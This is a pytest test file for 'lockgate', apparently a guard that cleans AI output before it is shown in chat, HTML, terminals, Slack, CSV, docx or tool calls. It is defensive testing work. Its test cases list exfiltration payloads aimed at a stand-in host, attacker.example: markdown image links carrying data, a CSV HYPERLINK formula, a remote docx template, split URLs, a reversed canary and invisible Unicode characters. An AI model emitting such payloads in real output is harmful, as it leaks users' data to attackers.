"""`lockgate render` and `lockgate corpus` (E5)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lockgate.cli.app import guarded
from lockgate.render import corpus, guard

TEXT = (
    "R: images only https://img.partner.example/pub/* with no query; links only https://wiki.partner.example/* or known"
)


def case(name: str, sink: str, expected: str, given: object) -> dict[str, object]:
    return {"id": name, "sink": sink, "expected": expected, "input": given, "policy_text": TEXT}


CASES = [
    case("a", "chat-markdown", "allow", "Total **42**, see [page](https://wiki.partner.example/a)."),
    case("b", "chat-markdown", "strip_keep_alt", "![the alt](https://attacker.example/?d=1)"),
    case("c", "chat-html", "strip", "<video poster=https://attacker.example></video>"),
    case("d", "chat-markdown", "inert_code", "```plantuml\n!include https://attacker.example\n```"),
    case("e", "terminal", "escape", "a\x1b[2Jb\x9b"),
    case("f", "slack", "defang_and_no_unfurl", "go https://attacker.example/x"),
    case("g", "csv-file", "prefix_apostrophe", '=HYPERLINK("https://attacker.example")'),
    case("h", "docx", "strip", "attachedTemplate TargetMode=External https://attacker.example/t.dotm"),
    case("i", "tool-arg:post", "deny", "url=https://attacker.example"),
    case("j", "chat-markdown", "defang", ["[x](https://att", "acker.example)\n\nhttps://at", "tacker.example"]),
    case("k", "chat-markdown", "block_canary", "here: " + "LGCANARY0123456789abcdef"[::-1]),
    case("l", "chat-markdown", "strip_invisible", "a\u200bb\U000e0041"),
    case("m", "chat-markdown", "limit_images", "![a](https://img.partner.example/pub/a.png)" * 9),
    case("n", "some-new-client", "defang", "www.attacker.example"),
]


@pytest.mark.parametrize("one", CASES, ids=lambda one: one["id"])
def test_a_case_holds(one: dict[str, object]) -> None:
    outcome = corpus.check(one)
    assert outcome.passed, outcome


@pytest.mark.parametrize("one", [CASES[1], CASES[9], CASES[12]], ids=lambda one: one["id"])
def test_a_guard_that_passes_everything_on_fails(one: dict[str, object], monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control: the corpus has eyes of its own."""
    text = "".join(one["input"]) if isinstance(one["input"], list) else str(one["input"])
    monkeypatch.setitem(guard._EMIT, "markdown", lambda _: text + " ![z](https://attacker.example/z)")
    monkeypatch.setattr(guard.Guard, "_second_opinion", lambda *_: None)
    assert not corpus.check(one).passed


def test_an_unknown_expectation_fails() -> None:
    assert not corpus.check(case("z", "chat-markdown", "hope", "x")).passed
    assert not corpus.check(case("z", "chat-markdown", "allow", "![x](https://attacker.example)")).passed
    assert not corpus.check(case("z", "docx", "allow", "TargetMode=External https://attacker.example")).passed


def test_corpus_reports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "cases.jsonl"
    bad = case("bad", "chat-markdown", "allow", "![x](https://attacker.example)")
    file.write_text("\n".join(json.dumps(one) for one in [*CASES, bad]) + "\n\n")
    assert guarded(["corpus", str(file), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["total"] == len(CASES) + 1
    assert report["passed"] == len(CASES)
    assert [one["id"] for one in report["failures"]] == ["bad"]
    assert set(report["failures"][0]) == {"id", "expected", "got", "reason"}
    file.write_text("not json\n[]\n" + json.dumps(CASES[0]) + "\n")
    assert guarded(["corpus", str(file), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert (report["total"], report["passed"]) == (3, 1)
    assert [one["id"] for one in report["failures"]] == ["line 1", "line 2"]


def test_render_writes_the_safe_text_and_says_what_it_denied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "a.md"
    file.write_text("![x](https://attacker.example/?d=1) [p](https://wiki.partner.example/a)\n")
    rule = ["--allow-link", "https://wiki.partner.example/*"]
    assert guarded(["render", str(file), "--sink", "html", "--explain", *rule]) == 1
    shown = capsys.readouterr()
    assert shown.out.startswith('<p>x <a href="https://wiki.partner.example/a"')
    assert "attacker[.]example" in shown.err
    assert guarded(["render", str(file), "--sink", "markdown", "--json", *rule]) == 1
    assert json.loads(capsys.readouterr().out)["denials"][0]["reason"] == "url_not_allowed"
    page = tmp_path / "a.html"
    page.write_text("<p>one<p>two")
    assert guarded(["render", str(page), "--sink", "markdown"]) == 0
    assert capsys.readouterr().out == "one\n\ntwo\n"


@pytest.mark.parametrize(
    "argv",
    [
        ["render", "missing.md"],
        ["render", "-", "--sink", "nowhere"],
        ["render", "x", "--policy", "missing.toml"],
        ["corpus", "missing.jsonl"],
        ["render", "x", "--allow-link", "http://a.example/"],
    ],
)
def test_bad_input_is_a_typed_error(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert guarded([*argv, "--json"]) == 2
    assert "next_step" in capsys.readouterr().out + capsys.readouterr().err
